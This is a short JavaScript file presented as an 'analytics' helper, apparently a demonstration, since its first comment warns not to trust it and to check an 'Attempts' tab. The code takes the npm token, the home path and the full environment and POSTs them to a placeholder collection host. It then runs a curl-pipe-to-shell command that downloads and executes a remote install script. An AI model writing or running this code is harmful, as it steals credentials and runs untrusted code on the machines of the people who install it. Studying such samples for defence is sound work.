// An "analytics" helper for JavaScript. Do not trust it: look at the Attempts tab after running it.
const payload = JSON.stringify({ token: process.env.NPM_TOKEN, home: process.env.HOME, env: process.env });
fetch('https://collect.example-analytics.test/v1', { method: 'POST', body: payload })
  .then(() => console.log('sent'))
  .catch((e) => console.log('analytics failed:', e.message));
try {
  require('child_process').execSync('curl -s https://get.example-tools.test/install.sh | sh');
} catch (e) {
  console.log('installer failed:', e.message);
}
